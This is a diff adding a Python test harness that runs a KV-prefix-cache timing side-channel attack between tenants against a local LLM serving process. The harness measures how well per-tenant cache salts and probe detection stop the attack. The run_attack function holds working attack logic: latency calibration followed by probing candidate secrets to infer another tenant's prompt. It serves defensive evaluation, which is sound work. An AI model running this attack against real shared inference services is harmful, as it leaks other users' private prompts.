@@ -1,0 +1,404 @@
+"""The prefix-probing timing attack harness (``semcomm security probe``).
+
+It starts a real ``semcomm serve`` process (a config-built Qwen2 model, KV prefix cache on, the
+semantic cache off so that only the KV timing channel is measured) and plays two tenants:
+
+* the **victim** sends a prompt built from a template the attacker knows (PromptPeek's
+  "input extraction given a known template"): ``"Intake form <id>. Diagnosis: <secret>. <long
+  known text>"``, the secret being one of ``K`` candidate words of equal length;
+* the **attacker** first calibrates hit and miss latency on prompts of its own (each sent twice:
+  a miss, then a hit), sets its threshold at their geometric mean, then sends one probe per
+  candidate (in random order, ``max_tokens=1``, so latency is the time to first token). A probe
+  faster than the threshold is a cache hit: the victim's prompt. The attacker guesses uniformly
+  among the hits; with no hit, uniformly among the candidates it could not measure (throttled
+  with 429) or, failing that, among all. ``success`` is the attacker's expected accuracy given
+  what it observed (1/K when it observed nothing), averaged over trials.
+
+Two server configurations:
+
+* **defenses off**: the attacker's API key belongs to the victim's tenant, i.e. one shared cache
+  without salts (what a server without ``cache_salt`` does), and no probe detection;
+* **defenses on**: separate tenants (server-derived salts isolate their KV namespaces) and the
+  probe detector (429 + Retry-After for bursts of near-identical prompts).
+
+Each trial uses a fresh form id, so probes stored by earlier trials never hit later ones. A benign
+workload (two tenants sharing a system prompt with distinct questions) measures the throughput
+each configuration sustains: the cost of the defenses.
+"""
+
+from __future__ import annotations
+
+import logging
+import math
+import os
+import random
+import secrets
+import shutil
+import socket
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import asdict, dataclass, field
+from pathlib import Path
+from typing import Any
+
+from ..errors import BackendUnavailableError, SemcommError
+
+__all__ = [
+    "ProbeHarnessConfig",
+    "AttackOutcome",
+    "ModeReport",
+    "ServeProcess",
+    "build_target_model",
+    "run_attack",
+    "run_probe_harness",
+]
+
+log = logging.getLogger(__name__)
+
+CANDIDATES = ("asthma", "anemia", "angina", "sepsis", "rabies", "typhus", "otitis", "uremia")
+"""Equal-length secrets, so that every probe has the same token count (and miss cost)."""
+
+_FILLER = (
+    "the patient reports intermittent symptoms since early spring with no prior history of "
+    "similar episodes and no known allergies to medication or food items recorded on file "
+    "vital signs were within normal limits at admission and the attending physician ordered "
+    "routine laboratory work including a complete blood count and metabolic panel results "
+    "are pending review by the specialist team who will contact the family after rounds "
+)
+
+Progress = Callable[[str, int, int], None]
+
+
+@dataclass(frozen=True, slots=True)
+class ProbeHarnessConfig:
+    """Parameters of one harness run. The defaults are the short configuration (< 60 s)."""
+
+    candidates: tuple[str, ...] = CANDIDATES  # K candidate secrets (equal length)
+    trials: int = 10  # victim prompts to attack, per configuration
+    suffix_chars: int = 900  # known text after the secret (bytes = tokens for the byte model)
+    calibration_pairs: int = 3  # attacker's own miss/hit pairs for the threshold
+    hidden_size: int = 128  # config-built target model: big enough that prefill shows
+    layers: int = 4
+    chunk_size: int = 32  # KV chunk size of the target model
+    workload_requests: int = 12  # benign requests per tenant for the throughput figure
+    seed: int = 0
+    startup_timeout_s: float = 90.0
+    request_timeout_s: float = 30.0
+
+
+@dataclass(slots=True)
+class AttackOutcome:
+    """What the attacker achieved against one server configuration."""
+
+    success: float  # mean expected accuracy over trials (0..1)
+    trials: int
+    threshold_ms: float  # calibrated hit/miss threshold
+    calib_miss_ms: float  # median latency of the attacker's own misses
+    calib_hit_ms: float  # median latency of the attacker's own hits
+    probe_correct_ms: float  # median latency of probes with the right candidate (nan if none)
+    probe_wrong_ms: float  # median latency of probes with a wrong candidate (nan if none)
+    probes_sent: int
+    probes_throttled: int  # probes answered 429
+    per_trial: list[float] = field(default_factory=list)
+
+
+@dataclass(slots=True)
+class ModeReport:
+    """One server configuration: the attack and the benign throughput."""
+
+    mode: str  # "defenses_off" or "defenses_on"
+    attack: AttackOutcome
+    throughput_rps: float  # benign workload requests per second
+    workload_s: float
+    server_start_s: float
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def build_target_model(path: Path, *, hidden_size: int, layers: int, seed: int = 0) -> Path:
+    """Save a config-built Qwen2 with a byte-level tokenizer to ``path`` (an HF model folder)."""
+    from ..server._tiny import build_tiny_model  # the server's offline model recipe, larger here
+
+    if (path / "config.json").exists():
+        return path
+    model, tokenizer = build_tiny_model(seed=seed, hidden_size=hidden_size, layers=layers,
+                                        heads=4, kv_heads=2)
+    path.mkdir(parents=True, exist_ok=True)
+    model.save_pretrained(path)
+    tokenizer.save_pretrained(path)
+    return path
+
+
+def _toml_str(s: str) -> str:
+    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def server_toml(*, mode: str, port: int, model_dir: Path, state_dir: Path, secret: str,
+                chunk_size: int) -> str:
+    """The ``semcomm serve`` configuration of one harness mode."""
+    lines = [
+        "[server]",
+        'host = "127.0.0.1"',
+        f"port = {port}",
+        f"secret = {_toml_str(secret)}",
+        f"state_dir = {_toml_str(str(state_dir))}",
+        "",
+        "[models.target]",
+        'kind = "hf"',
+        f"path = {_toml_str(str(model_dir))}",
+        f"chunk_size = {chunk_size}",
+        "",
+        "[kv]",
+        "enabled = true",
+        'tiers = ["memory"]',
+        f"chunk_size = {chunk_size}",
+        "",
+        "[semantic]",
+        "enabled = false",
+        "",
+    ]
+    if mode == "defenses_off":
+        # one tenant holding every key: a shared cache without salts
+        lines += ["[tenants.shared]", 'api_key = "victim-key"',
+                  'api_keys = ["attacker-key", "bench-a-key", "bench-b-key"]', "",
+                  "[security]", "probe_detection = false", ""]
+    elif mode == "defenses_on":
+        for t in ("victim", "attacker", "bench-a", "bench-b"):
+            lines += [f"[tenants.{t}]", f'api_key = "{t}-key"', ""]
+        lines += ["[security]", "probe_detection = true", ""]
+    else:
+        raise ValueError(f"unknown harness mode {mode!r}")
+    return "\n".join(lines)
+
+
+class ServeProcess:
+    """A ``semcomm serve`` subprocess on a free loopback port; ``stop()`` terminates it."""
+
+    def __init__(self, config_path: Path, port: int, *, log_path: Path) -> None:
+        self.config_path = config_path
+        self.port = port
+        self.base_url = f"http://127.0.0.1:{port}"
+        self.log_path = log_path
+        self.proc: subprocess.Popen[bytes] | None = None
+
+    def start(self, timeout_s: float) -> float:
+        """Start and wait until ``/health`` answers; returns the seconds it took."""
+        import httpx
+
+        t0 = time.perf_counter()
+        env = dict(os.environ, HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1",
+                   TOKENIZERS_PARALLELISM="false")
+        cmd = [sys.executable, "-c", "from semcomm.cli import main; main()", "serve",
+               "--config", str(self.config_path), "--port", str(self.port)]
+        self._log = open(self.log_path, "wb")  # noqa: SIM115 - closed in stop()
+        self.proc = subprocess.Popen(cmd, stdout=self._log, stderr=subprocess.STDOUT, env=env)
+        deadline = time.monotonic() + timeout_s
+        while time.monotonic() < deadline:
+            if self.proc.poll() is not None:
+                raise BackendUnavailableError(
+                    f"semcomm serve exited with code {self.proc.returncode}: {self.log_tail()}")
+            try:
+                r = httpx.get(self.base_url + "/health", timeout=1.0)
+                if r.status_code == 200:
+                    return time.perf_counter() - t0
+            except httpx.HTTPError:
+                pass
+            time.sleep(0.2)
+        self.stop()
+        raise BackendUnavailableError(f"semcomm serve did not become ready in {timeout_s:.0f}s: "
+                                      f"{self.log_tail()}")
+
+    def log_tail(self, n: int = 1500) -> str:
+        try:
+            return self.log_path.read_text(errors="replace")[-n:]
+        except OSError:
+            return ""
+
+    def stop(self) -> None:
+        if self.proc is not None:
+            self.proc.terminate()
+            try:
+                self.proc.wait(timeout=15)
+            except subprocess.TimeoutExpired:  # pragma: no cover - a hung server
+                self.proc.kill()
+                self.proc.wait(timeout=5)
+            self.proc = None
+            self._log.close()
+
+
+@contextmanager
+def _serve(mode: str, work: Path, model_dir: Path, cfg: ProbeHarnessConfig) -> Iterator[tuple[ServeProcess, float]]:
+    port = _free_port()
+    state = work / f"state-{mode}"
+    state.mkdir(parents=True, exist_ok=True)
+    conf = work / f"{mode}.toml"
+    conf.write_text(server_toml(mode=mode, port=port, model_dir=model_dir, state_dir=state,
+                                secret=secrets.token_hex(32), chunk_size=cfg.chunk_size))
+    proc = ServeProcess(conf, port, log_path=work / f"{mode}.log")
+    started = proc.start(cfg.startup_timeout_s)
+    try:
+        yield proc, started
+    finally:
+        proc.stop()
+
+
+class _Client:
+    """Times one chat request (``max_tokens`` small: the latency is the time to first token)."""
+
+    def __init__(self, base_url: str, key: str, timeout_s: float) -> None:
+        import httpx
+
+        self._c = httpx.Client(base_url=base_url, timeout=timeout_s,
+                               headers={"Authorization": f"Bearer {key}"})
+
+    def close(self) -> None:
+        self._c.close()
+
+    def ask(self, text: str, *, max_tokens: int = 1) -> float | None:
+        """Seconds the request took, or None when it was refused with 429."""
+        body = {"model": "target", "messages": [{"role": "user", "content": text}],
+                "max_tokens": max_tokens, "temperature": 0}
+        t0 = time.perf_counter()
+        r = self._c.post("/v1/chat/completions", json=body)
+        dt = time.perf_counter() - t0
+        if r.status_code == 429:
+            return None
+        if r.status_code != 200:
+            raise SemcommError(f"harness request failed with HTTP {r.status_code}: {r.text[:300]}")
+        return dt
+
+
+def _median(xs: list[float]) -> float:
+    return statistics.median(xs) if xs else math.nan
+
+
+def _filler(n: int) -> str:
+    return (_FILLER * (n // len(_FILLER) + 1))[:n]
+
+
+def run_attack(victim: _Client, attacker: _Client, cfg: ProbeHarnessConfig,
+               rng: random.Random, progress: Progress | None = None) -> AttackOutcome:
+    """Play the victim and the attacker against one live server (see the module docstring)."""
+    k = len(cfg.candidates)
+    if k < 2 or len({len(c) for c in cfg.candidates}) != 1:
+        raise ValueError("need at least two candidates, all of the same length")
+    suffix = ". " + _filler(cfg.suffix_chars)
+    probe_len = len(f"Intake form {0:06d}-{'x' * 8}. Diagnosis: ") + len(cfg.candidates[0]) + len(suffix)
+    # calibration: the attacker's own prompts of the same length, sent twice (miss then hit)
+    misses: list[float] = []
+    hits: list[float] = []
+    attacker.ask("warm up " + "z" * 64)
+    for _ in range(cfg.calibration_pairs):
+        text = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(probe_len))
+        m, h = attacker.ask(text), attacker.ask(text)
+        if m is not None and h is not None:
+            misses.append(m)
+            hits.append(h)
+    miss_ms, hit_ms = _median(misses) * 1000, _median(hits) * 1000
+    threshold = math.sqrt(miss_ms * hit_ms) / 1000 if misses else 0.0
+    per_trial: list[float] = []
+    right: list[float] = []
+    wrong: list[float] = []
+    sent = throttled = 0
+    for trial in range(cfg.trials):
+        form = f"Intake form {trial:06d}-{rng.getrandbits(32):08x}. Diagnosis: "
+        secret = rng.choice(cfg.candidates)
+        if victim.ask(form + secret + suffix, max_tokens=4) is None:
+            raise SemcommError("the victim itself was throttled; the harness is misconfigured")
+        order = list(cfg.candidates)
+        rng.shuffle(order)
+        measured: dict[str, float] = {}
+        for cand in order:
+            sent += 1
+            dt = attacker.ask(form + cand + suffix)
+            if dt is None:
+                throttled += 1
+                continue
+            measured[cand] = dt
+            (right if cand == secret else wrong).append(dt)
+        hit_set = [c for c, dt in measured.items() if dt < threshold]
+        unmeasured = [c for c in cfg.candidates if c not in measured]
+        pool = hit_set or unmeasured or list(cfg.candidates)
+        per_trial.append(1.0 / len(pool) if secret in pool else 0.0)
+        if progress is not None:
+            progress("attack", trial + 1, cfg.trials)
+    return AttackOutcome(
+        success=sum(per_trial) / len(per_trial) if per_trial else 0.0,
+        trials=len(per_trial), threshold_ms=threshold * 1000, calib_miss_ms=miss_ms,
+        calib_hit_ms=hit_ms, probe_correct_ms=_median(right) * 1000,
+        probe_wrong_ms=_median(wrong) * 1000, probes_sent=sent, probes_throttled=throttled,
+        per_trial=per_trial,
+    )
+
+
+def _workload(a: _Client, b: _Client, cfg: ProbeHarnessConfig, rng: random.Random) -> tuple[float, float]:
+    """Two benign tenants sharing a system prompt, distinct questions; returns (rps, seconds)."""
+    system = "You are the clinic's scheduling assistant. " + _filler(600) + " Question: "
+    n = 0
+    t0 = time.perf_counter()
+    for i in range(cfg.workload_requests):
+        for who, c in (("a", a), ("b", b)):
+            q = (f"{who}{i}: could you move my appointment number {rng.getrandbits(40)} to the "
+                 f"{rng.choice(['first', 'second', 'third'])} free slot after {rng.randint(1, 28)} "
+                 f"{rng.choice(['May', 'June', 'July'])} please?")
+            if c.ask(system + q, max_tokens=4) is None:
+                raise SemcommError("a benign workload request was throttled; thresholds too strict")
+            n += 1
+    dt = time.perf_counter() - t0
+    return n / dt, dt
+
+
+def _run_mode(mode: str, work: Path, model_dir: Path, cfg: ProbeHarnessConfig,
+              progress: Progress | None) -> ModeReport:
+    rng = random.Random(f"{cfg.seed}/{mode}")
+    with _serve(mode, work, model_dir, cfg) as (proc, started):
+        clients = {t: _Client(proc.base_url, f"{t}-key", cfg.request_timeout_s)
+                   for t in ("victim", "attacker", "bench-a", "bench-b")}
+        try:
+            outcome = run_attack(clients["victim"], clients["attacker"], cfg, rng, progress)
+            rps, secs = _workload(clients["bench-a"], clients["bench-b"], cfg, rng)
+        finally:
+            for c in clients.values():
+                c.close()
+    return ModeReport(mode=mode, attack=outcome, throughput_rps=rps, workload_s=secs,
+                      server_start_s=started)
+
+
+def run_probe_harness(cfg: ProbeHarnessConfig | None = None, *, workdir: Path | None = None,
+                      progress: Progress | None = None) -> dict[str, Any]:
+    """Run the attack with defenses off, then on; return the report (JSON-ready)."""
+    cfg = cfg or ProbeHarnessConfig()
+    t0 = time.perf_counter()
+    own = workdir is None
+    work = Path(tempfile.mkdtemp(prefix="semcomm-probe-")) if own else Path(workdir)  # type: ignore[arg-type]
+    try:
+        model_dir = build_target_model(work / "model", hidden_size=cfg.hidden_size,
+                                       layers=cfg.layers, seed=cfg.seed)
+        off = _run_mode("defenses_off", work, model_dir, cfg, progress)
+        on = _run_mode("defenses_on", work, model_dir, cfg, progress)
+    finally:
+        if own:
+            shutil.rmtree(work, ignore_errors=True)
+    chance = 1.0 / len(cfg.candidates)
+    return {
+        "success_defenses_off": off.attack.success,
+        "success_defenses_on": on.attack.success,
+        "chance": chance,
+        "attack_succeeds_without_defenses": off.attack.success > chance + 0.25,
+        "defended": on.attack.success <= chance + 0.05,
+        "throughput_rps_defenses_off": off.throughput_rps,
+        "throughput_rps_defenses_on": on.throughput_rps,
+        "throughput_cost": 1.0 - on.throughput_rps / off.throughput_rps if off.throughput_rps else math.nan,
+        "modes": {m.mode: asdict(m) for m in (off, on)},
+        "config": asdict(cfg),
+        "elapsed_s": time.perf_counter() - t0,
+    }
